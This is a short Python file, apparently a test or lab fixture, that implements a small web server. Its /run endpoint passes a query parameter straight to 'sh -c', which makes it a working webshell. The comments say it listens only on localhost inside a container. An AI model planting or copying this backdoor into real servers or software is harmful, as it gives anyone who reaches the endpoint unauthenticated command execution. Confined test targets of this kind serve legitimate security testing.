# A web application with a webshell: GET /run?c=CMD runs CMD through sh, as a webshell would.
# GET / serves a page and starts nothing. Listens on 127.0.0.1:8080 inside its container only.
import http.server
import subprocess
import urllib.parse


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        body = b"hello\n"
        if url.path == "/run":
            cmd = urllib.parse.parse_qs(url.query).get("c", ["id"])[0]
            body = subprocess.run(["sh", "-c", cmd], capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", 8080), Handler).serve_forever()
